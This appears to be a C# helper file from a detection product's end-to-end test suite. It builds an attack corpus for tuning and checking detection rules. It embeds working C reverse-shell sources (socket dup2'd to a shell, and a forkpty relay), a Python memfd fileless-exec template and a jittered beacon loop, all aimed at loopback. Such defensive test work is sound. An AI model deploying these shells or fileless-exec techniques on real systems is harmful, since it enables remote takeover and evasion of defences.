using System.Globalization;
using N3ttrace.EndToEnd.Tests.Scenarios;

namespace N3ttrace.EndToEnd.Tests.Corpora;

/// <summary>
/// The attack corpus, split once and for all before any rule was tuned: <see cref="Tuning"/> (two thirds, in
/// AttackCorpus.Tuning.cs) is what the rules may be tuned on; the held-out third (AttackCorpus.HeldOut.cs) is run only
/// to report its own figure. See docs/detection-corpora.md for the split and the wiring each scenario covers.
/// Every process and file has a neutral name: no scenario can pass because a name is on a list.
/// </summary>
internal static partial class AttackCorpus
{
    public const int BeaconCalls = 20;
    public const double BeaconSeconds = 1.0; // +-20% jitter

    /// <summary>The held-out third; empty in a tree that does not carry AttackCorpus.HeldOut.cs.</summary>
    public static IReadOnlyList<AttackScenario> HeldOut()
    {
        var list = new List<AttackScenario>();
        AddHeldOut(list);
        return list;
    }

    static partial void AddHeldOut(List<AttackScenario> list);

    private static readonly TimeSpan Timeout = TimeSpan.FromSeconds(25);

    /// <summary>Runs argv and waits (killing the tree on timeout).</summary>
    private static Func<ScenarioEnv, Task> Run(Func<ScenarioEnv, string[]> argv) =>
        e => Contexts.RunAsync(argv(e), Timeout, e.Dir);

    /// <summary>A bash command line (bash only for /dev/tcp; the interpreter on the wire is named in the script).</summary>
    private static Func<ScenarioEnv, Task> Bash(Func<ScenarioEnv, string> script) =>
        e => Contexts.RunAsync(["/bin/bash", "-c", script(e)], Timeout, e.Dir);

    /// <summary>A POSIX sh command line.</summary>
    private static Func<ScenarioEnv, Task> Sh(Func<ScenarioEnv, string> script) =>
        e => Contexts.RunAsync(["/bin/sh", "-c", script(e)], Timeout, e.Dir);

    /// <summary>Compiles C source with gcc into the scenario's directory under a neutral name; returns the binary's path.</summary>
    private static async Task<string> CompileAsync(ScenarioEnv e, string source, string name, params string[] libs)
    {
        var src = e.File(name + ".c");
        var bin = e.File(name);
        await File.WriteAllTextAsync(src, source);
        var rc = await Contexts.RunAsync(["/usr/bin/gcc", "-O1", "-o", bin, src, .. libs], TimeSpan.FromSeconds(60), e.Dir);
        Assert.True(rc == 0, $"gcc failed for {name}");
        return bin;
    }

    /// <summary>
    /// A jitter sleep in sh: BeaconSeconds +-20%. od's output starts with spaces: unquoted, it split into awk's program
    /// and the sleep failed, so until 2026-12-03 13:00 UTC b01 (and held-out set 2's h07) ran their 20 calls back to
    /// back (a burst in under a second, not a beacon).
    /// </summary>
    private static string JitterSleep =>
        $"sleep $(awk -v r=\"$(od -An -N2 -tu2 /dev/urandom)\" 'BEGIN{{printf \"%.3f\", {BeaconSeconds.ToString(CultureInfo.InvariantCulture)}*(0.8+0.4*r/65535)}}')";

    /// <summary>Connect to port argv[1] on loopback, put the socket on fd 0-2, exec /bin/sh -i.</summary>
    private const string ConnectExecC = """
        #include <arpa/inet.h>
        #include <stdlib.h>
        #include <unistd.h>
        int main(int argc, char **argv) {
            if (argc < 2) return 2;
            int s = socket(AF_INET, SOCK_STREAM, 0);
            struct sockaddr_in a = {0};
            a.sin_family = AF_INET;
            a.sin_port = htons(atoi(argv[1]));
            a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
            if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
            for (int fd = 0; fd < 3; fd++) dup2(s, fd);
            char *sh[] = {"sh", "-i", 0};
            execv("/bin/sh", sh);
            return 1;
        }
        """;

    /// <summary>Connect, then forkpty a shell and relay between the socket and the pty master.</summary>
    private const string ForkPtyC = """
        #include <arpa/inet.h>
        #include <poll.h>
        #include <pty.h>
        #include <stdlib.h>
        #include <unistd.h>
        int main(int argc, char **argv) {
            if (argc < 2) return 2;
            int s = socket(AF_INET, SOCK_STREAM, 0);
            struct sockaddr_in a = {0};
            a.sin_family = AF_INET;
            a.sin_port = htons(atoi(argv[1]));
            a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
            if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
            int m;
            pid_t pid = forkpty(&m, 0, 0, 0);
            if (pid < 0) return 1;
            if (pid == 0) { execl("/bin/sh", "sh", "-i", (char *)0); _exit(1); }
            struct pollfd p[2] = {{s, POLLIN, 0}, {m, POLLIN, 0}};
            char buf[4096];
            for (;;) {
                if (poll(p, 2, -1) < 0) break;
                if (p[0].revents) { ssize_t n = read(s, buf, sizeof buf); if (n <= 0 || write(m, buf, n) != n) break; }
                if (p[1].revents) { ssize_t n = read(m, buf, sizeof buf); if (n <= 0 || write(s, buf, n) != n) break; }
            }
            return 0;
        }
        """;

    /// <summary>Python: copy an executable into a memfd (no file on disk) and exec it with the given argv.</summary>
    private static string MemfdExec(string source, string argvPython, string before = "") => $"""
        import os,socket,sys
        fd=os.memfd_create("cache",0)
        with open("{source}","rb") as f: os.write(fd,f.read())
        {before}
        os.execv("/proc/self/fd/%d"%fd,{argvPython})
        """;
}
